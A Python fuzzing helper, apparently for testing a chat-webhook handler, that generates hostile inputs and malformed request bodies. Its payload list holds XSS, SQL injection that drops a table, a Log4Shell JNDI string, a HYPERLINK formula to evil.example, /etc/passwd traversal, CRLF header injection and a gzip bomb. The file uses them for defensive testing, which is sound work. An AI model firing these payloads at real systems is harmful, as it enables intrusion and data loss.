"""What somebody hostile sends: values that break parsers, bodies that are none, whole ones turned odd."""

from __future__ import annotations

import copy
import gzip
import json
import random  # noqa: TID251 - seeded: the same inputs each time
from collections.abc import Callable
from typing import Any

#: Stands in every hostile text: wherever it is found later, content has leaked.
CANARY = "CANARY7f3a"

_TEXTS: tuple[str, ...] = (
    "",
    " ",
    "\x00\x01\x02\x1f\x7f",
    "‮gnp.exe​⁦﻿",
    "<!channel> <@U00000001> <https://evil.example|click> *_~`",
    "&amp;&lt;script&gt;<script>alert(1)</script>",
    "'; DROP TABLE reports; --",
    "{0.__class__.__mro__} %s %n {{7*7}} ${jndi:ldap://x}",
    '=HYPERLINK("http://evil.example","x")',
    "../../../../etc/passwd\x00.png",
    "\r\nSet-Cookie: a=b\r\n\r\nHTTP/1.1 200 OK",
    "😀" * 700,
    "a" * 20_001,
    "Ω≈ç√∫˜µ≤≥÷ １２３ ﷽ \U0010ffff",
    "status FED-0000",
    "report",
    "drill",
    "cases",
)
_ODD: tuple[Any, ...] = (
    None,
    True,
    False,
    0,
    -1,
    1.5,
    10**30,
    -(10**18),
    1e308,
    [],
    {},
    [None],
    [[]],
    {"": ""},
    [{}] * 50,
    "9" * 5000,
)
# No such name is changed into another that is well-formed: that would be another, valid, event.
_NAMES = ("event_id", "id", "client_msg_id", "trigger_id", "ts", "event_ts")


def text(chance: random.Random) -> str:
    """A hostile text with the canary in it."""
    return f"{CANARY}{chance.choice(_TEXTS)}"


def shaped(chance: random.Random, payload: Any) -> Any:
    """The payload with one to four of its parts replaced by, or given, what does not belong there."""
    payload = copy.deepcopy(payload)
    for _ in range(chance.randrange(1, 5)):
        _spoil(chance, payload)
    return payload


def _spoil(chance: random.Random, payload: Any) -> None:
    holder: Any = payload
    while isinstance(holder, dict | list) and holder:
        key: Any = chance.choice(list(holder)) if isinstance(holder, dict) else chance.randrange(len(holder))
        inner = holder[key]
        if isinstance(inner, dict | list) and inner and chance.random() < 0.75:
            holder = inner
            continue
        match chance.randrange(6):
            case 0:
                del holder[key]
            case 1 | 2 if key not in _NAMES:
                holder[key] = text(chance)
            case 3 if isinstance(holder, dict):
                holder[text(chance)] = copy.deepcopy(chance.choice(_ODD))
            case 4:
                holder[key] = _deep(chance.randrange(20, 400))
            case _:
                holder[key] = copy.deepcopy(chance.choice(_ODD))
        return


def _deep(levels: int) -> Any:
    found: Any = CANARY
    for level in range(levels):
        found = [found] if level % 2 else {"a": found}
    return found


def said(chance: random.Random, payload: Any, keys: tuple[str, ...]) -> Any:
    """The payload, whole, with a hostile text wherever it has words (`keys`)."""
    payload = copy.deepcopy(payload)

    def fill(node: Any) -> None:
        if isinstance(node, dict):
            for key, value in node.items():
                if key in keys and isinstance(value, str):
                    node[key] = text(chance)
                else:
                    fill(value)
        elif isinstance(node, list):
            for item in node:
                fill(item)

    fill(payload)
    return payload


def body(chance: random.Random, whole: bytes) -> tuple[bytes, dict[str, str]]:
    """A body that is none: cut, doubled, random bytes, JSON that no parser likes; with headers that lie."""
    kinds: tuple[Callable[[], bytes], ...] = (
        lambda: whole[: chance.randrange(max(1, len(whole)))],
        lambda: whole + whole,
        lambda: bytes(chance.randrange(256) for _ in range(chance.randrange(0, 600))),
        lambda: b"[" * chance.choice((100, 5_000, 100_000)),
        lambda: b'{"a":' * 3_000 + b"1" + b"}" * 3_000,
        lambda: b'{"type": ' + b"9" * 6_000 + b"}",
        lambda: b'{"type": NaN, "text": Infinity}',
        lambda: json.dumps({"text": CANARY, "type": "message"}).encode("utf-16"),
        lambda: b'\xef\xbb\xbf{"type":"\\ud800","text":"' + CANARY.encode() + b'"}',
        lambda: b'{"type":"a","type":"b","type":null}',
        lambda: b"payload=" + b"%" * chance.randrange(1, 400),
        lambda: b"payload=%7B%22type%22%3A%22block_actions%22%7D&payload=" + CANARY.encode(),
        lambda: gzip.compress(b"0" * 200_000),
        lambda: b"\x00" * chance.randrange(1, 2_000),
    )
    headers = chance.choice(
        (
            {"Content-Type": "application/json"},
            {"Content-Type": "application/x-www-form-urlencoded"},
            {"Content-Type": "application/json; charset=utf-7"},
            {"Content-Type": "application/json; charset=nonsense"},
            {"Content-Type": "multipart/form-data; boundary=x"},
            {"Content-Type": "text/plain"},
            {"Content-Type": "application/json", "Content-Encoding": "gzip"},
            {"Content-Type": "application/json", "Content-Encoding": "nonsense"},
            {},
        )
    )
    return chance.choice(kinds)(), dict(headers)
